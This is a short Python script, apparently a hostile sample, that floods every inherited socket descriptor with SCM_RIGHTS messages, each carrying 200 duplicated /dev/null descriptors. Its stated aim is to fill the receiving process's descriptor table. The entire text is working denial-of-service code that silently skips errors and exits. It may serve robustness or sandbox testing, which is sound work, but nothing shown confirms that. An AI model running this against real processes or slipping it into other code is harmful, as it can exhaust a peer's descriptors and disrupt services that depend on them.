"""Sends open descriptors along with its bytes, to fill the table of whoever receives them."""

import array
import os
import socket

null = os.open("/dev/null", os.O_RDONLY)
for number in range(3, 256):
    try:
        channel = socket.socket(fileno=os.dup(number))
        rights = (socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [null] * 200))
        channel.sendmsg([b"F"], [rights])
    except OSError:
        continue
os._exit(0)
